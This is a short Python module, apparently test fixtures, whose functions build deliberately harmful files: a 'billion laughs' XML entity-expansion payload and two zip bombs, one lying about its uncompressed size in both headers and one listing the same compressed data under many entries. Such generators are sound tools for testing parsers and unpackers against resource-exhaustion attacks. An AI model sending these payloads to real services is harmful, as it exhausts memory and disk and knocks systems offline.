"""Small files that were made to harm whoever opens them, each written by code."""

from __future__ import annotations

import io
import struct
import zipfile

MEGABYTE = 1024 * 1024


def laughing_xml(place: str = "text", levels: int = 10) -> str:
    """XML of some hundred bytes that says "ha" ten thousand million times, in its text or in an attribute."""
    entities = ['<!ENTITY l0 "ha">']
    for level in range(1, levels):
        again = f"&l{level - 1};" * 10
        entities.append(f'<!ENTITY l{level} "{again}">')
    last = f"&l{levels - 1};"
    body = f"<a>{last}</a>" if place == "text" else f'<a said="{last}"/>'
    return f"<!DOCTYPE a [{''.join(entities)}]>{body}"


def zipped(members: dict[str, bytes]) -> bytes:
    """A zip of `members`."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in members.items():
            new.writestr(name, content)
    return out.getvalue()


def lying(says: int) -> bytes:
    """A zip whose one member unpacks to 5 MB, and says in both of its headers that it were `says` bytes."""
    data = bytearray(zipped({"bomb": bytes(5 * MEGABYTE)}))
    for sign, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = data.index(sign) + at
        data[place : place + 4] = struct.pack("<L", says)
    return bytes(data)


def overlapping(times: int) -> bytes:
    """A zip that lists the same megabyte of packed bytes under many names, to be unpacked many times over."""
    data = zipped({"a00000": bytes(MEGABYTE)})
    start = data.index(b"PK\x01\x02")
    entry = data[start : data.index(b"PK\x05\x06")]
    listed = b"".join(entry.replace(b"a00000", b"a%05d" % number) for number in range(times))
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, times, times, len(listed), start, 0)
    return data[:start] + listed + end
